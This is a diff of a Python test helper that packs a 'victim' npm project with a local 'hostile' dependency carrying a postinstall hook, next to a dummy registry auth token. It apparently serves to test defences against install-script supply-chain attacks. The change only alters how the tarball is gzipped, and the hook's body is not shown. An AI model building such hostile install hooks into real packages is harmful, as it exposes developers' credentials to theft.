@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import gzip
 import io
 import json
 import tarfile
@@ -19,9 +20,9 @@ DEPENDENCY = {"name": "hostile", "version": "1.0.0", "scripts": {"postinstall": 
 SECRET = "//registry.example.org/:_authToken=of-the-trial"
 
 
-def tar(contents: Mapping[str, str | bytes], compression: str = "") -> bytes:
+def tar(contents: Mapping[str, str | bytes]) -> bytes:
     buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode=f"w:{compression}") as archive:
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
         for name, content in contents.items():
             data = content.encode() if isinstance(content, str) else content
             info = tarfile.TarInfo(name)
@@ -41,7 +42,7 @@ def by_install_script() -> bytes:
         {
             "package.json": json.dumps({**PACKAGE, "dependencies": {"hostile": "file:hostile.tgz"}}),
             "package-lock.json": json.dumps({"name": "victim", "version": "1.0.0", **lock}),
-            "hostile.tgz": tar(hostile, "gz"),
+            "hostile.tgz": gzip.compress(tar(hostile)),
         }
     )
 
